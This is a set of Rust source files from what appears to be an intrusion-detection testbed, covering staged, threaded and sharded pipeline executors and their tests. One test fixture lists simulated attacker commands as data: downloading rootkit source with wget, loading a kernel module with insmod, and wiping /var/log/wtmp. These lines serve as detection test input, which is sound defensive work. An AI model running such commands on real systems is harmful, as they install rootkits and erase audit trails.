        let mut r3 = PipelineBuilder::new().seed(7).scenario_rng();
        let mut r4 = simnet::rng::SimRng::seed(7);
        assert_eq!(r3.range_u64(0, 1_000), r4.range_u64(0, 1_000));
    }

    #[test]
    fn from_config_carries_c2_feed_and_flags() {
        let mut cfg = TestbedConfig::default();
        cfg.c2_feed.push("194.145.22.33".parse().unwrap());
        cfg.block_on_detection = false;
        let b = PipelineBuilder::from_config(&cfg, detect::train::toy_training_model());
        assert!(b
            .symbolizer
            .config()
            .c2_addresses
            .contains(&"194.145.22.33".parse().unwrap()));
        assert!(!b.block_on_detection);
        assert_eq!(b.detector.source(), "attack-tagger");
    }
}
