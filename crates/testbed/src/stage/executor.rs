//! Executors: three ways to drive one assembled pipeline.
//!
//! All executors consume a [`BuiltPipeline`] and a record stream and
//! produce an **identical** [`StreamReport`]; they differ only in how the
//! stage work is scheduled:
//!
//! - [`run_inline`] — everything in the calling thread, batch by batch.
//! - [`run_threaded`] — one thread per stage (feeder → symbolize → filter
//!   → detect+response), bounded channels carrying *batches* (not single
//!   items) so channel costs amortize.
//! - [`run_sharded`] — threaded, but the detect stage is split into K
//!   per-entity shards driven on the rayon worker pool. Alerts route to
//!   shards by [`Entity::shard_key`](alertlib::alert::Entity::shard_key),
//!   so each entity's session state stays on one shard; outcomes are
//!   re-merged in original stream order, which makes detections,
//!   notifications, retention, and stats byte-identical to the sequential
//!   pass.
//!
//! Equivalence argument: every stage is order-preserving and batch
//! boundaries are unobservable ([`Stage`] contract); the detect stage is
//! per-entity independent with a 1:1 alert→outcome contract, so routing by
//! entity hash and merging by sequence number reconstructs exactly the
//! sequential outcome stream.

use alertlib::alert::Alert;
use alertlib::filter::FilterStats;
use crossbeam::channel::{bounded, Sender};
use detect::correlate::{CampaignCorrelator, CampaignSummary};
use rayon::prelude::*;
use scenario::faults::{FaultInjector, FaultStats};
use simnet::time::SimTime;
use telemetry::record::LogRecord;

use crate::report::OperatorNotification;
use crate::stage::adapters::{DetectOutcome, DetectorStage, ResponseStage};
use crate::stage::builder::BuiltPipeline;
use crate::stage::{AlertRetention, Stage};
use crate::streaming::StreamStats;

/// Everything one pipeline run produces, identical across executors.
#[derive(Debug)]
pub struct StreamReport {
    /// Per-stage counters (same meaning as the closed-loop
    /// [`RunReport`](crate::report::RunReport) fields).
    pub stats: StreamStats,
    /// Scan-filter counters.
    pub filter: FilterStats,
    /// Operator notifications raised by the response stage — streaming
    /// runs go through the same BHR-block + notification path as the
    /// simulation sink.
    pub notifications: Vec<OperatorNotification>,
    /// Post-filter alerts retained for analysis (capped, oldest dropped).
    pub retained_alerts: Vec<Alert>,
    /// Alerts not retained because the retention cap was exceeded
    /// (oldest-first evictions). Zero when retention is disabled.
    pub alerts_dropped: u64,
    /// Alerts not retained because retention was disabled (`cap == 0`,
    /// e.g. stats-only runs). Kept apart from `alerts_dropped` so a run
    /// that never intended to retain does not report its whole admitted
    /// volume as drops.
    pub alerts_discarded: u64,
    /// Distinct sources blocked at the BHR by the response stage.
    pub blocked_sources: u64,
    /// Alerts the detector dropped as telemetry re-deliveries (0 unless a
    /// dedup window is configured).
    pub duplicates_suppressed: u64,
    /// Block RPC re-deliveries attempted by the response retry queue.
    pub blocks_retried: u64,
    /// Blocks permanently given up on (attempt cap or deadline hit).
    pub blocks_abandoned: u64,
    /// Notification re-deliveries attempted by the response retry queue.
    pub notifications_retried: u64,
    /// Notifications permanently given up on.
    pub notifications_abandoned: u64,
    /// Fault-injection accounting when the pipeline was built with a
    /// [`FaultPlan`](scenario::faults::FaultPlan); `None` on clean runs.
    /// `stats.records` counts *post-fault* records in either case.
    pub fault: Option<FaultStats>,
    /// Live campaigns stitched by the cross-entity correlator (empty when
    /// correlation is off): campaign ids, member entities, and link
    /// provenance. Identical across executors — the correlator consumes
    /// the merged, order-restored outcome stream.
    pub campaigns: Vec<CampaignSummary>,
    /// Detections promoted by campaign fusion (a subset of
    /// `stats.detections`).
    pub correlated_promotions: u64,
    /// Tagger detections suppressed because the entity had already been
    /// surfaced by a campaign promotion.
    pub correlated_confirmations: u64,
}

/// Correlation surfaces for a [`StreamReport`] from a finished correlator.
fn correlation_report(correlate: &Option<CampaignCorrelator>) -> (Vec<CampaignSummary>, u64, u64) {
    match correlate {
        Some(c) => (c.summaries(), c.promotions(), c.tagger_confirmations()),
        None => (Vec::new(), 0, 0),
    }
}

/// The sequential stage composition, shared by the inline executor and the
/// closed-loop [`PipelineSink`](crate::pipeline::PipelineSink).
pub(crate) struct InlineCore {
    pub(crate) symbolize: crate::stage::adapters::SymbolizeStage,
    pub(crate) filter: crate::stage::adapters::FilterStage,
    pub(crate) detect: DetectorStage,
    pub(crate) correlate: Option<CampaignCorrelator>,
    pub(crate) response: ResponseStage,
    pub(crate) retention: AlertRetention,
    pub(crate) stats: StreamStats,
    pub(crate) notifications: Vec<OperatorNotification>,
    alerts_buf: Vec<Alert>,
    admitted_buf: Vec<Alert>,
    outcomes_buf: Vec<DetectOutcome>,
}

impl InlineCore {
    pub(crate) fn new(p: BuiltPipeline) -> Self {
        InlineCore {
            symbolize: p.symbolize,
            filter: p.filter,
            detect: p.detect,
            correlate: p.correlate,
            response: p.response,
            retention: p.retention,
            stats: StreamStats::default(),
            notifications: Vec::new(),
            alerts_buf: Vec::with_capacity(64),
            admitted_buf: Vec::with_capacity(64),
            outcomes_buf: Vec::with_capacity(64),
        }
    }

    /// Run one record batch through symbolize → filter → detect →
    /// response → retention, updating counters. `now` is the response
    /// timestamp (see [`ResponseStage::respond`]): the closed-loop sink
    /// passes the engine's event time, record-stream runs pass `None`.
    pub(crate) fn process_records_at(&mut self, now: Option<SimTime>, records: &[LogRecord]) {
        self.stats.records += records.len() as u64;
        self.alerts_buf.clear();
        self.symbolize.process_batch(records, &mut self.alerts_buf);
        self.stats.alerts += self.alerts_buf.len() as u64;
        self.run_tail(now);
    }

    /// Drain windowed stage state at end of stream.
    pub(crate) fn flush(&mut self) {
        self.alerts_buf.clear();
        self.symbolize.flush(&mut self.alerts_buf);
        self.stats.alerts += self.alerts_buf.len() as u64;
        self.run_tail(None);
        self.admitted_buf.clear();
        self.filter.flush(&mut self.admitted_buf);
        self.stats.admitted += self.admitted_buf.len() as u64;
        self.outcomes_buf.clear();
        self.detect
            .process_drain(&mut self.admitted_buf, &mut self.outcomes_buf);
        self.detect.flush(&mut self.outcomes_buf);
        self.finish_outcomes(None);
        self.response.flush(&mut self.notifications);
    }

    /// Filter → detect → response → retention over `alerts_buf`
    /// (drain-based: alerts move through without cloning).
    fn run_tail(&mut self, now: Option<SimTime>) {
        self.admitted_buf.clear();
        self.filter
            .admit_drain(&mut self.alerts_buf, &mut self.admitted_buf);
        self.stats.admitted += self.admitted_buf.len() as u64;
        self.outcomes_buf.clear();
        self.detect
            .process_drain(&mut self.admitted_buf, &mut self.outcomes_buf);
        self.finish_outcomes(now);
    }

    fn finish_outcomes(&mut self, now: Option<SimTime>) {
        finish_outcomes(
            &mut self.outcomes_buf,
            now,
            self.correlate.as_mut(),
            &mut self.response,
            &mut self.retention,
            &mut self.stats.detections,
            &mut self.notifications,
        );
    }

    pub(crate) fn into_report(self) -> StreamReport {
        let (campaigns, correlated_promotions, correlated_confirmations) =
            correlation_report(&self.correlate);
        StreamReport {
            campaigns,
            correlated_promotions,
            correlated_confirmations,
            stats: self.stats,
            filter: self.filter.stats(),
            notifications: self.notifications,
            alerts_dropped: self.retention.dropped(),
            alerts_discarded: self.retention.discarded(),
            blocked_sources: self.response.blocked_sources(),
            duplicates_suppressed: self.detect.duplicates_suppressed(),
            blocks_retried: self.response.blocks_retried(),
            blocks_abandoned: self.response.blocks_abandoned(),
            notifications_retried: self.response.notifications_retried(),
            notifications_abandoned: self.response.notifications_abandoned(),
            fault: None,
            retained_alerts: self.retention.into_vec(),
        }
    }
}

/// The shared pipeline tail every executor runs over ordered detect
/// outcomes: respond (BHR blocks + notifications), count detections,
/// retain alerts. Defined once so the cross-executor byte-identity
/// invariant cannot drift. Drains `outcomes`.
fn finish_outcomes(
    outcomes: &mut Vec<DetectOutcome>,
    now: Option<SimTime>,
    correlator: Option<&mut CampaignCorrelator>,
    response: &mut ResponseStage,
    retention: &mut AlertRetention,
    detections: &mut u64,
    notifications: &mut Vec<OperatorNotification>,
) {
    // Correlation runs on the merged, stream-ordered outcome sequence so
    // every executor sees identical link formation regardless of how the
    // detect stage was parallelised.
    if let Some(c) = correlator {
        for o in outcomes.iter_mut() {
            c.observe(&o.alert, o.attack_score, &mut o.detection);
        }
    }
    response.respond(now, outcomes, notifications);
    for o in outcomes.drain(..) {
        if o.detection.is_some() {
            *detections += 1;
        }
        retention.push(o.alert);
    }
}

/// Sequential executor (the deterministic reference).
pub(crate) fn run_inline<I>(mut p: BuiltPipeline, records: I) -> StreamReport
where
    I: IntoIterator<Item = LogRecord>,
{
    let batch = p.tuning.batch_size.max(1);
    let faults = p.faults.take();
    let mut core = InlineCore::new(p);
    let mut buf: Vec<LogRecord> = Vec::with_capacity(batch);
    let fault = match faults {
        None => {
            for r in records {
                buf.push(r);
                if buf.len() >= batch {
                    core.process_records_at(None, &buf);
                    buf.clear();
                }
            }
            None
        }
        Some(mut inj) => {
            for r in records {
                inj.push(r, &mut buf);
                if buf.len() >= batch {
                    core.process_records_at(None, &buf);
                    buf.clear();
                }
            }
            inj.finish(&mut buf);
            Some(inj.stats())
        }
    };
    if !buf.is_empty() {
        core.process_records_at(None, &buf);
    }
    core.flush();
    let mut report = core.into_report();
    report.fault = fault;
    report
}

/// Feed records into the first channel in batches, pushing them through
/// the fault injector when one is configured. Returns the count of records
/// actually sent downstream (post-fault) plus the fault accounting.
fn feed<I>(
    records: I,
    tx: Sender<Vec<LogRecord>>,
    batch: usize,
    faults: Option<FaultInjector>,
) -> (u64, Option<FaultStats>)
where
    I: IntoIterator<Item = LogRecord>,
{
    let mut n = 0u64;
    let mut buf: Vec<LogRecord> = Vec::with_capacity(batch);
    let send = |buf: &mut Vec<LogRecord>, n: &mut u64| {
        *n += buf.len() as u64;
        tx.send(std::mem::replace(buf, Vec::with_capacity(batch)))
            .is_err()
    };
    let fault = match faults {
        None => {
            for r in records {
                buf.push(r);
                if buf.len() >= batch && send(&mut buf, &mut n) {
                    return (n, None);
                }
            }
            None
        }
        Some(mut inj) => {
            for r in records {
                inj.push(r, &mut buf);
                if buf.len() >= batch && send(&mut buf, &mut n) {
                    return (n, Some(inj.stats()));
                }
            }
            inj.finish(&mut buf);
            Some(inj.stats())
        }
    };
    if !buf.is_empty() {
        n += buf.len() as u64;
        let _ = tx.send(buf);
    }
    (n, fault)
}

/// Threaded executor: one thread per stage, batched bounded channels.
pub(crate) fn run_threaded<I>(p: BuiltPipeline, records: I) -> StreamReport
where
    I: IntoIterator<Item = LogRecord> + Send,
{
    run_staged(p, records, 1)
}

/// Sharded executor: threaded layout with the detect stage partitioned by
/// entity hash into `tuning.shards()` shards on the rayon pool.
pub(crate) fn run_sharded<I>(p: BuiltPipeline, records: I) -> StreamReport
where
    I: IntoIterator<Item = LogRecord> + Send,
{
    let shards = p.tuning.shards().max(1);
    run_staged(p, records, shards)
}

/// Common threaded layout; `shards == 1` degenerates to one detect stage
/// driven in the sink thread.
fn run_staged<I>(p: BuiltPipeline, records: I, shards: usize) -> StreamReport
where
    I: IntoIterator<Item = LogRecord> + Send,
{
    let BuiltPipeline {
        mut symbolize,
        mut filter,
        detect,
        mut correlate,
        mut response,
        mut retention,
        tuning,
        faults,
    } = p;
    let batch = tuning.batch_size.max(1);
    let depth = tuning.channel_batches();
    let (rec_tx, rec_rx) = bounded::<Vec<LogRecord>>(depth);
    let (alert_tx, alert_rx) = bounded::<Vec<Alert>>(depth);
    let (adm_tx, adm_rx) = bounded::<Vec<Alert>>(depth);

    std::thread::scope(|scope| {
        let feeder = scope.spawn(move || feed(records, rec_tx, batch, faults));

        let symbolizing = scope.spawn(move || {
            let mut produced = 0u64;
            let mut staging: Vec<Alert> = Vec::with_capacity(batch);
            for rb in rec_rx {
                let before = staging.len();
                symbolize.process_batch(&rb, &mut staging);
                produced += (staging.len() - before) as u64;
                if staging.len() >= batch
                    && alert_tx
                        .send(std::mem::replace(&mut staging, Vec::with_capacity(batch)))
                        .is_err()
                {
                    return produced;
                }
            }
            let before = staging.len();
            symbolize.flush(&mut staging);
            produced += (staging.len() - before) as u64;
            if !staging.is_empty() {
                let _ = alert_tx.send(staging);
            }
            produced
        });

        let filtering = scope.spawn(move || {
            let mut admitted = 0u64;
            let mut staging: Vec<Alert> = Vec::with_capacity(batch);
            for mut ab in alert_rx {
                let before = staging.len();
                filter.admit_drain(&mut ab, &mut staging);
                admitted += (staging.len() - before) as u64;
                if staging.len() >= batch
                    && adm_tx
                        .send(std::mem::replace(&mut staging, Vec::with_capacity(batch)))
                        .is_err()
                {
                    return (filter, admitted);
                }
            }
            let before = staging.len();
            filter.flush(&mut staging);
            admitted += (staging.len() - before) as u64;
            if !staging.is_empty() {
                let _ = adm_tx.send(staging);
            }
            (filter, admitted)
        });

        let sinking = scope.spawn(move || {
            let mut pool = DetectShards::new(detect, shards);
            let mut detections = 0u64;
            let mut notifications = Vec::new();
            let mut pending: Vec<Alert> = Vec::new();
            for ab in adm_rx {
                pending.extend(ab);
                if pending.len() >= batch {
                    pool.drain(
                        &mut pending,
                        correlate.as_mut(),
                        &mut response,
                        &mut retention,
                        &mut detections,
                        &mut notifications,
                    );
                }
            }
            pool.drain(
                &mut pending,
                correlate.as_mut(),
                &mut response,
                &mut retention,
                &mut detections,
                &mut notifications,
            );
            response.flush(&mut notifications);
            let duplicates = pool.duplicates_suppressed();
            (
                response,
                retention,
                detections,
                notifications,
                duplicates,
                correlate,
            )
        });

        let (records, fault) = feeder.join().expect("feeder thread");
        let alerts = symbolizing.join().expect("symbolize thread");
        let (filter, admitted) = filtering.join().expect("filter thread");
        let (response, retention, detections, notifications, duplicates_suppressed, correlate) =
            sinking.join().expect("detect/response thread");
        let (campaigns, correlated_promotions, correlated_confirmations) =
            correlation_report(&correlate);
        StreamReport {
            campaigns,
            correlated_promotions,
            correlated_confirmations,
            stats: StreamStats {
                records,
                alerts,
                admitted,
                detections,
            },
            filter: filter.stats(),
            notifications,
            alerts_dropped: retention.dropped(),
            alerts_discarded: retention.discarded(),
            blocked_sources: response.blocked_sources(),
            duplicates_suppressed,
            blocks_retried: response.blocks_retried(),
            blocks_abandoned: response.blocks_abandoned(),
            notifications_retried: response.notifications_retried(),
            notifications_abandoned: response.notifications_abandoned(),
            fault,
            retained_alerts: retention.into_vec(),
        }
    })
}

/// K per-entity detector shards with order-restoring merge.
struct DetectShards {
    shards: Vec<DetectorStage>,
    buckets: Vec<Vec<Alert>>,
    seqs: Vec<Vec<usize>>,
}

impl DetectShards {
    fn new(detect: DetectorStage, k: usize) -> Self {
        let k = k.max(1);
        let mut shards = Vec::with_capacity(k);
        for _ in 1..k {
            shards.push(detect.clone());
        }
        shards.push(detect);
        DetectShards {
            buckets: (0..k).map(|_| Vec::new()).collect(),
            seqs: (0..k).map(|_| Vec::new()).collect(),
            shards,
        }
    }

    /// Re-deliveries suppressed across every shard (per-entity state lives
    /// on exactly one shard, so the sum equals the sequential count).
    fn duplicates_suppressed(&self) -> u64 {
        self.shards.iter().map(|s| s.duplicates_suppressed()).sum()
    }

    /// Route `pending` to shards by entity hash, drive every shard (on
    /// the rayon pool when K > 1), merge outcomes back into original
    /// stream order, and run response + retention over them.
    fn drain(
        &mut self,
        pending: &mut Vec<Alert>,
        correlator: Option<&mut CampaignCorrelator>,
        response: &mut ResponseStage,
        retention: &mut AlertRetention,
        detections: &mut u64,
        notifications: &mut Vec<OperatorNotification>,
    ) {
        if pending.is_empty() {
            return;
        }
        let k = self.shards.len();
        let total = pending.len();
        let mut batch_outcomes: Vec<DetectOutcome> = if k == 1 {
            // Single shard (plain threaded executor): no hashing, no
            // bucketing, no merge — just drain straight through.
            let mut out = Vec::with_capacity(total);
            self.shards[0].process_drain(pending, &mut out);
            out
        } else {
            for (i, a) in pending.drain(..).enumerate() {
                let s = (a.entity.shard_key() % k as u64) as usize;
                self.seqs[s].push(i);
                self.buckets[s].push(a);
            }
            let work: Vec<(DetectorStage, Vec<Alert>)> =
                self.shards.drain(..).zip(self.buckets.drain(..)).collect();
            let results: Vec<(DetectorStage, Vec<Alert>, Vec<DetectOutcome>)> = work
                .into_par_iter()
                .map(|(mut stage, mut bucket)| {
                    let mut out = Vec::with_capacity(bucket.len());
                    stage.process_drain(&mut bucket, &mut out);
                    // Hand the emptied bucket back so its capacity is
                    // reused by the next batch.
                    (stage, bucket, out)
                })
                .collect();
            let mut ordered: Vec<Option<DetectOutcome>> = (0..total).map(|_| None).collect();
            for (sidx, (stage, bucket, outs)) in results.into_iter().enumerate() {
                self.shards.push(stage);
                self.buckets.push(bucket);
                for (j, o) in outs.into_iter().enumerate() {
                    ordered[self.seqs[sidx][j]] = Some(o);
                }
            }
            for seq in &mut self.seqs {
                seq.clear();
            }
            ordered
                .into_iter()
                .map(|o| o.expect("detect stages emit exactly one outcome per alert"))
                .collect()
        };
        finish_outcomes(
            &mut batch_outcomes,
            None,
            correlator,
            response,
            retention,
            detections,
            notifications,
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::stage::builder::PipelineBuilder;
    use simnet::flow::{ConnState, Direction, FlowId, Proto, Service};
    use simnet::time::{SimDuration, SimTime};
    use telemetry::record::{ConnRecord, ProcessRecord};

    fn probe_record(i: u64) -> LogRecord {
        LogRecord::Conn(ConnRecord {
            ts: SimTime::from_secs(i),
            uid: FlowId(i),
            orig_h: "103.102.1.1".parse().unwrap(),
            orig_p: 40_000,
            resp_h: format!("141.142.2.{}", 1 + (i % 250)).parse().unwrap(),
            resp_p: 22,
            proto: Proto::Tcp,
            service: Service::Ssh,
            duration: SimDuration::ZERO,
            orig_bytes: 0,
            resp_bytes: 0,
            conn_state: ConnState::S0,
            direction: Direction::Inbound,
        })
    }

    fn exec_record(t: u64, user: &str, cmdline: &str) -> LogRecord {
        LogRecord::Process(ProcessRecord {
            ts: SimTime::from_secs(t),
            host: simnet::topology::HostId(3),
            hostname: "compute-3".into(),
            user: user.into(),
            pid: 1000 + t as u32,
            ppid: 1,
            exe: "/bin/bash".into(),
            cmdline: cmdline.into(),
        })
    }

    fn workload() -> Vec<LogRecord> {
        let mut records: Vec<LogRecord> = (0..2_000).map(probe_record).collect();
        for (k, user) in ["eve", "mallory", "trudy", "oscar"].iter().enumerate() {
            for (i, cmd) in [
                "wget http://64.215.4.5/abs.c",
                "make -C /lib/modules/4.4/build modules",
                "insmod abs.ko",
                "echo 0>/var/log/wtmp",
            ]
            .iter()
            .enumerate()
            {
                records.push(exec_record(100 + 60 * i as u64 + k as u64, user, cmd));
            }
        }
        records
    }

    fn reports_equal(a: &StreamReport, b: &StreamReport) {
        assert_eq!(a.stats, b.stats);
        assert_eq!(a.filter, b.filter);
        assert_eq!(a.notifications, b.notifications);
        assert_eq!(a.retained_alerts, b.retained_alerts);
        assert_eq!(a.alerts_dropped, b.alerts_dropped);
        assert_eq!(a.alerts_discarded, b.alerts_discarded);
        assert_eq!(a.blocked_sources, b.blocked_sources);
        assert_eq!(a.duplicates_suppressed, b.duplicates_suppressed);
        assert_eq!(a.blocks_retried, b.blocks_retried);
        assert_eq!(a.blocks_abandoned, b.blocks_abandoned);
        assert_eq!(a.notifications_retried, b.notifications_retried);
        assert_eq!(a.notifications_abandoned, b.notifications_abandoned);
        assert_eq!(a.fault, b.fault);
        assert_eq!(a.campaigns, b.campaigns);
        assert_eq!(a.correlated_promotions, b.correlated_promotions);
        assert_eq!(a.correlated_confirmations, b.correlated_confirmations);
    }

    #[test]
    fn three_executors_agree_byte_for_byte() {
        let records = workload();
        let build = || PipelineBuilder::new().batch_size(37).build();
        let inline = build().run_inline(records.clone());
        assert!(inline.stats.detections >= 4, "all four sessions detected");
        assert_eq!(
            inline.notifications.len() as u64,
            inline.stats.detections,
            "streaming runs surface detections as notifications"
        );
        let threaded = build().run_threaded(records.clone());
        reports_equal(&inline, &threaded);
        for shards in [1usize, 2, 7] {
            let sharded = PipelineBuilder::new()
                .batch_size(37)
                .detect_shards(shards)
                .build()
                .run_sharded(records.clone());
            reports_equal(&inline, &sharded);
        }
    }

    #[test]
    fn faulted_executors_agree_byte_for_byte() {
        use scenario::faults::{BlackoutScope, BlackoutWindow, ClockSkewConfig, FaultPlan};
        let records = workload();
        let plan = FaultPlan::clean(0xFA017)
            .named("mixed")
            .with_loss(0.05)
            .with_duplication(0.05)
            .with_reorder(16)
            .with_clock(ClockSkewConfig {
                max_skew: SimDuration::from_secs(5),
                jitter: SimDuration::from_secs(1),
            })
            .with_blackout(BlackoutWindow {
                start: SimTime::from_secs(300),
                end: SimTime::from_secs(600),
                scope: BlackoutScope::All,
            });
        let build = || {
            PipelineBuilder::new()
                .batch_size(37)
                .faults(plan.clone())
                .known_blackouts(plan.blackout_spans())
                .build()
        };
        let inline = build().run_inline(records.clone());
        let stats = inline.fault.as_ref().expect("fault accounting present");
        assert_eq!(stats.records_out, inline.stats.records);
        assert!(stats.records_in > stats.records_out - stats.duplicated);
        let threaded = build().run_threaded(records.clone());
        reports_equal(&inline, &threaded);
        let sharded = PipelineBuilder::new()
            .batch_size(37)
            .detect_shards(5)
            .faults(plan.clone())
            .known_blackouts(plan.blackout_spans())
            .build()
            .run_sharded(records);
        reports_equal(&inline, &sharded);
    }

    #[test]
    fn correlated_executors_agree_byte_for_byte() {
        // The four kernel-module sessions share HostId(3) and an identical
        // cmdline palette, so the correlator links them into one campaign.
        let records = workload();
        let policy = detect::CorrelationPolicy::default();
        let build = || {
            PipelineBuilder::new()
                .batch_size(37)
                .correlation(policy.clone())
                .build()
        };
        let inline = build().run_inline(records.clone());
        assert!(
            !inline.campaigns.is_empty(),
            "shared host/palette workload forms at least one campaign"
        );
        let threaded = build().run_threaded(records.clone());
        reports_equal(&inline, &threaded);
        for shards in [1usize, 2, 7] {
            let sharded = PipelineBuilder::new()
                .batch_size(37)
                .correlation(policy.clone())
                .detect_shards(shards)
                .build()
                .run_sharded(records.clone());
            reports_equal(&inline, &sharded);
        }
    }

    #[test]
    fn retention_cap_applies_in_stream_runs() {
        let records = workload();
        let report = PipelineBuilder::new()
            .alert_retention(3)
            .build()
            .run_inline(records);
        assert_eq!(report.retained_alerts.len(), 3);
        assert_eq!(
            report.alerts_dropped,
            report.stats.admitted - 3,
            "drop-oldest counted"
        );
    }

    #[test]
    fn empty_stream_is_fine_everywhere() {
        for kind in [
            crate::config::ExecutorKind::Inline,
            crate::config::ExecutorKind::Threaded,
            crate::config::ExecutorKind::Sharded,
        ] {
            let report = PipelineBuilder::new()
                .executor(kind)
                .build()
                .run(Vec::<LogRecord>::new());
            assert_eq!(report.stats, StreamStats::default());
            assert!(report.notifications.is_empty());
        }
    }
}
