//! Multithreaded streaming pipeline.
//!
//! The production deployment mirrors "alerts of all production network
//! traffic" into the models — a throughput problem. This variant overlaps
//! the pipeline stages on threads connected by bounded crossbeam channels:
//!
//! ```text
//! records ──▶ [symbolize] ──▶ [filter] ──▶ [detect] ──▶ stats
//! ```
//!
//! Stage state (filter windows, per-entity posteriors) stays thread-local
//! to its stage, so no locks are needed on the hot path; back-pressure
//! comes from the bounded channels.

use alertlib::alert::Alert;
use alertlib::filter::ScanFilter;
use alertlib::symbolize::Symbolizer;
use crossbeam::channel::bounded;
use detect::attack_tagger::AttackTagger;
use serde::{Deserialize, Serialize};
use telemetry::record::LogRecord;

/// Aggregate counters of a streaming run.
#[derive(Debug, Clone, Copy, Default, PartialEq, Serialize, Deserialize)]
pub struct StreamStats {
    pub records: u64,
    pub alerts: u64,
    pub admitted: u64,
    pub detections: u64,
}

/// Channel capacity per stage.
const STAGE_CAPACITY: usize = 4_096;

/// Run records through the three-stage threaded pipeline.
///
/// Results are identical to the sequential composition of the same stages
/// (each stage is internally order-preserving), but wall-clock time
/// overlaps the stage costs.
pub fn process_records(
    records: impl IntoIterator<Item = LogRecord> + Send,
    mut symbolizer: Symbolizer,
    mut filter: ScanFilter,
    mut tagger: AttackTagger,
) -> StreamStats {
    let (rec_tx, rec_rx) = bounded::<LogRecord>(STAGE_CAPACITY);
    let (alert_tx, alert_rx) = bounded::<Alert>(STAGE_CAPACITY);
    let (adm_tx, adm_rx) = bounded::<Alert>(STAGE_CAPACITY);

    std::thread::scope(|scope| {
        // Stage 0: feeder.
        let feeder = scope.spawn(move || {
            let mut n = 0u64;
            for r in records {
                n += 1;
                if rec_tx.send(r).is_err() {
                    break;
                }
            }
            n
        });

        // Stage 1: symbolization.
        let symbolize = scope.spawn(move || {
            let mut produced = 0u64;
            let mut scratch = Vec::with_capacity(4);
            for r in rec_rx {
                scratch.clear();
                symbolizer.symbolize_into(&r, &mut scratch);
                for a in scratch.drain(..) {
                    produced += 1;
                    if alert_tx.send(a).is_err() {
                        return produced;
                    }
                }
            }
            produced
        });

        // Stage 2: repeated-scan filter.
        let filtering = scope.spawn(move || {
            let mut admitted = 0u64;
            for a in alert_rx {
                if filter.admit(&a) {
                    admitted += 1;
                    if adm_tx.send(a).is_err() {
                        return admitted;
                    }
                }
            }
            admitted
        });

        // Stage 3: detection.
        let detecting = scope.spawn(move || {
            let mut detections = 0u64;
            for a in adm_rx {
                if tagger.observe(&a).is_some() {
                    detections += 1;
                }
            }
            detections
        });

        let records = feeder.join().expect("feeder thread");
        let alerts = symbolize.join().expect("symbolize thread");
        let admitted = filtering.join().expect("filter thread");
        let detections = detecting.join().expect("detect thread");
        StreamStats {
            records,
            alerts,
            admitted,
            detections,
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use alertlib::filter::FilterConfig;
    use alertlib::symbolize::SymbolizerConfig;
    use detect::attack_tagger::TaggerConfig;
    use detect::train::toy_training_model;
    use simnet::flow::{ConnState, Direction, FlowId, Proto, Service};
    use simnet::time::{SimDuration, SimTime};
    use telemetry::record::ConnRecord;

    fn probe_record(i: u64) -> LogRecord {
        LogRecord::Conn(ConnRecord {
            ts: SimTime::from_secs(i),
            uid: FlowId(i),
            orig_h: "103.102.1.1".parse().unwrap(),
            orig_p: 40_000,
            resp_h: format!("141.142.2.{}", 1 + (i % 250)).parse().unwrap(),
            resp_p: 22,
            proto: Proto::Tcp,
            service: Service::Ssh,
            duration: SimDuration::ZERO,
            orig_bytes: 0,
            resp_bytes: 0,
            conn_state: ConnState::S0,
            direction: Direction::Inbound,
        })
    }

    fn stages() -> (Symbolizer, ScanFilter, AttackTagger) {
        (
            Symbolizer::new(SymbolizerConfig::default()),
            ScanFilter::new(FilterConfig::default()),
            AttackTagger::new(toy_training_model(), TaggerConfig::default()),
        )
    }

    #[test]
    fn streaming_matches_sequential() {
        let records: Vec<LogRecord> = (0..2_000).map(probe_record).collect();
        // Sequential reference.
        let (mut sym, mut filt, mut tag) = stages();
        let mut seq = StreamStats::default();
        for r in &records {
            seq.records += 1;
            for a in sym.symbolize(r) {
                seq.alerts += 1;
                if filt.admit(&a) {
                    seq.admitted += 1;
                    if tag.observe(&a).is_some() {
                        seq.detections += 1;
                    }
                }
            }
        }
        // Streaming.
        let (sym, filt, tag) = stages();
        let streamed = process_records(records, sym, filt, tag);
        assert_eq!(streamed, seq);
    }

    #[test]
    fn empty_input() {
        let (sym, filt, tag) = stages();
        let stats = process_records(Vec::<LogRecord>::new(), sym, filt, tag);
        assert_eq!(stats, StreamStats::default());
    }

    #[test]
    fn large_volume_bounded_memory() {
        // 100k probe records flow through bounded channels without
        // accumulating unbounded intermediate vectors.
        let records: Vec<LogRecord> = (0..100_000).map(probe_record).collect();
        let (sym, filt, tag) = stages();
        let stats = process_records(records, sym, filt, tag);
        assert_eq!(stats.records, 100_000);
        assert!(
            stats.admitted < stats.alerts / 10,
            "filter collapses the flood"
        );
    }
}
