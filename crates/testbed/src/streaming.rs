//! Streaming (record-driven) pipeline runs.
//!
//! The production deployment mirrors "alerts of all production network
//! traffic" into the models — a throughput problem. Record streams are
//! driven through the same assembled stage chain the closed-loop sink
//! uses, by one of three executors (see [`crate::stage::executor`]):
//!
//! ```text
//! records ──▶ [symbolize] ──▶ [filter] ──▶ [detect ×K shards] ──▶ response
//! ```
//!
//! Stage state stays thread-local to its stage (per-entity detector state
//! thread-local to its *shard*), so no locks are needed on the hot path;
//! back-pressure comes from the bounded batch channels.
//!
//! [`process_records`] is the pre-redesign compatibility entry point; new
//! code should assemble a [`PipelineBuilder`](crate::stage::PipelineBuilder)
//! and call [`BuiltPipeline::run`](crate::stage::BuiltPipeline::run), which
//! also surfaces notifications, BHR response, and retained alerts via
//! [`StreamReport`](crate::stage::StreamReport).

use alertlib::filter::ScanFilter;
use alertlib::symbolize::Symbolizer;
use detect::attack_tagger::AttackTagger;
use serde::{Deserialize, Serialize};
use telemetry::record::LogRecord;

use crate::config::PipelineTuning;
use crate::stage::builder::BuiltPipeline;

/// Aggregate counters of a streaming run.
#[derive(Debug, Clone, Copy, Default, PartialEq, Serialize, Deserialize)]
pub struct StreamStats {
    pub records: u64,
    pub alerts: u64,
    pub admitted: u64,
    pub detections: u64,
}

/// Run records through the threaded stage pipeline
/// (compatibility wrapper over the stage API).
///
/// Results are identical to the sequential composition of the same stages
/// (each stage is order-preserving), but wall-clock time overlaps the
/// stage costs. Equivalent to
/// `BuiltPipeline::from_stages(..).run_threaded(records).stats`.
pub fn process_records(
    records: impl IntoIterator<Item = LogRecord> + Send,
    symbolizer: Symbolizer,
    filter: ScanFilter,
    tagger: AttackTagger,
) -> StreamStats {
    // Stats-only entry point: retention off, like the pre-redesign code.
    // Retention-off alerts are counted as *discarded*, not dropped, so
    // this mode no longer reports its entire admitted volume as drops.
